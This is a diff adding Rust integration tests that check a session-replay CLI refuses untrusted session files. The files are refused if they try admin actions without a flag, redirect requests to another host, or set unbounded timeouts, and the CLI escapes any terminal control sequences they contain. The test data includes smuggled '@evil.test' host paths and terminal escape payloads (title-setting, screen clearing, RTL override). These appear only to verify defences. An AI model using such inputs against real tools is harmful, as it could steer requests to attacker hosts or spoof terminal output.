@@ -1,0 +1,188 @@
+//! Session files are input from elsewhere (a bug report, a pasted reproduction): `relaydeck
+//! replay` must not let one act as admin on a server without being told, reach another host,
+//! run without bound, or write to the terminal anything but text.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+
+use std::process::Output;
+
+use common::TestServer;
+use relaydeck::server::persist::read_audit;
+use relaydeck::session::replay::{self, Outcome, Target};
+use relaydeck::session::Session;
+
+const KICK: &str = "sessions/pubsub/4020_admin_disconnect.jsonl";
+
+async fn replay_cli(args: Vec<String>, envs: Vec<(&'static str, String)>) -> Output {
+    tokio::task::spawn_blocking(move || {
+        std::process::Command::new(env!("CARGO_BIN_EXE_relaydeck"))
+            .arg("replay")
+            .args(args)
+            .env_remove("RELAYDECK_ADMIN_TOKEN")
+            .envs(envs)
+            .current_dir(env!("CARGO_MANIFEST_DIR"))
+            .output()
+            .unwrap()
+    })
+    .await
+    .unwrap()
+}
+
+fn stdout(output: &Output) -> String {
+    String::from_utf8_lossy(&output.stdout).into_owned()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn admin_steps_against_a_url_need_allow_admin_even_with_the_token_in_the_environment() {
+    let server = TestServer::demo().await;
+    let url = format!("ws://{}", server.addr);
+
+    let refused = replay_cli(
+        vec!["--url".into(), url.clone(), KICK.into()],
+        vec![("RELAYDECK_ADMIN_TOKEN", server.token.clone())],
+    )
+    .await;
+    let text = stdout(&refused);
+    assert_eq!(refused.status.code(), Some(1), "{text}");
+    assert!(
+        text.contains("refused: this session has admin steps") && text.contains("--allow-admin"),
+        "{text}"
+    );
+    assert!(
+        read_audit(server.data.path()).unwrap().is_empty(),
+        "no admin command reached the server"
+    );
+
+    let allowed = replay_cli(
+        vec![
+            "--url".into(),
+            url.clone(),
+            "--allow-admin".into(),
+            KICK.into(),
+        ],
+        vec![("RELAYDECK_ADMIN_TOKEN", server.token.clone())],
+    )
+    .await;
+    let text = stdout(&allowed);
+    assert_eq!(allowed.status.code(), Some(0), "{text}");
+    assert!(text.contains("admin steps may act on"), "said so: {text}");
+    assert!(read_audit(server.data.path())
+        .unwrap()
+        .iter()
+        .any(|r| r.action == "kick"));
+
+    let no_token = replay_cli(
+        vec!["--url".into(), url, "--allow-admin".into(), KICK.into()],
+        vec![],
+    )
+    .await;
+    assert_ne!(no_token.status.code(), Some(0));
+    assert!(
+        String::from_utf8_lossy(&no_token.stderr)
+            .contains("--allow-admin needs the server's admin token"),
+        "{}",
+        String::from_utf8_lossy(&no_token.stderr)
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_embedded_server_runs_admin_steps_without_the_flag() {
+    let output = replay_cli(vec![KICK.into()], vec![]).await;
+    assert_eq!(output.status.code(), Some(0), "{}", stdout(&output));
+}
+
+/// A value captured from the server is substituted after the file was checked; the limits
+/// are checked again, so a server cannot steer a step to another host either.
+#[tokio::test]
+async fn substituted_values_are_checked_like_the_file() {
+    let server = TestServer::demo().await;
+    let session = Session::parse(
+        r#"{"session":1,"name":"steer","dialect":"pubsub"}
+{"step":"connect","conn":"a","path":"/v1?key=pk_demo"}
+{"step":"expect","conn":"a","match":{"type":"welcome"},"capture":{"me":"/peerId"}}
+{"step":"http","method":"GET","path":"${me}@evil.test/"}"#,
+        "inline",
+    )
+    .unwrap();
+    let target = Target {
+        addr: server.addr.to_string(),
+        admin_token: None,
+    };
+    let report = replay::run(&session, &target, &mut |_| {}).await;
+    let Outcome::Failed(message) = &report.steps[2].outcome else {
+        panic!("{:?}", report.steps[2].outcome)
+    };
+    assert!(
+        message.contains("must be a path on the server"),
+        "{message}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn huge_timeouts_and_foreign_hosts_are_refused_before_anything_runs() {
+    let dir = tempfile::tempdir().unwrap();
+    let write = |name: &str, text: &str| {
+        let path = dir.path().join(name);
+        std::fs::write(&path, text).unwrap();
+        path.display().to_string()
+    };
+    let header = r#"{"session":1,"name":"x","dialect":"pubsub"}"#;
+    let slow = write(
+        "slow.jsonl",
+        &format!(
+            "{header}\n{{\"step\":\"connect\",\"conn\":\"a\",\"path\":\"/v1?key=pk_demo\"}}\n{{\"step\":\"expect\",\"conn\":\"a\",\"code\":\"x\",\"timeout_ms\":{}}}\n",
+            u64::MAX
+        ),
+    );
+    let elsewhere = write(
+        "elsewhere.jsonl",
+        &format!(
+            "{header}\n{{\"step\":\"http\",\"method\":\"GET\",\"path\":\"@evil.test/steal\"}}\n"
+        ),
+    );
+    let started = std::time::Instant::now();
+    let output = replay_cli(vec![slow, elsewhere], vec![]).await;
+    let text = stdout(&output);
+    assert_eq!(output.status.code(), Some(1), "{text}");
+    assert!(text.contains("timeout_ms is limited to 60000 ms"), "{text}");
+    assert!(text.contains("must be a path on the server"), "{text}");
+    assert!(text.contains("0 of 2 sessions passed"), "{text}");
+    assert!(
+        started.elapsed() < std::time::Duration::from_secs(30),
+        "refused at once, not after waiting"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn escape_sequences_in_a_session_are_shown_not_obeyed() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("title.jsonl");
+    // The name sets the terminal's title and clears the screen if printed raw; the text sent
+    // comes back inside the description of the step.
+    std::fs::write(
+        &path,
+        r#"{"session":1,"name":"x\u001b]0;pwned\u0007\u001b[2J","dialect":"pubsub"}
+{"step":"connect","conn":"a","path":"/v1?key=pk_demo"}
+{"step":"send","conn":"a","text":"\u001b[31mred\u202e"}
+"#,
+    )
+    .unwrap();
+    let output = replay_cli(
+        vec![path.display().to_string()],
+        // Colour forced on, so that nothing downstream strips escapes for us.
+        vec![("CLICOLOR_FORCE", "1".to_owned())],
+    )
+    .await;
+    let text = stdout(&output);
+    assert_eq!(output.status.code(), Some(0), "{text}");
+    assert!(text.contains("\\u{1b}]0;pwned\\u{7}\\u{1b}[2J"), "{text}");
+    assert!(text.contains("\\u{202e}"), "{text}");
+    assert!(!text.contains("\u{1b}]0;") && !text.contains("\u{1b}[2J"));
+    assert!(!text.contains('\u{202e}') && !text.contains('\u{7}'));
+    assert!(
+        text.contains('\u{1b}'),
+        "the report's own colours are still there: the check above is not vacuous"
+    );
+}
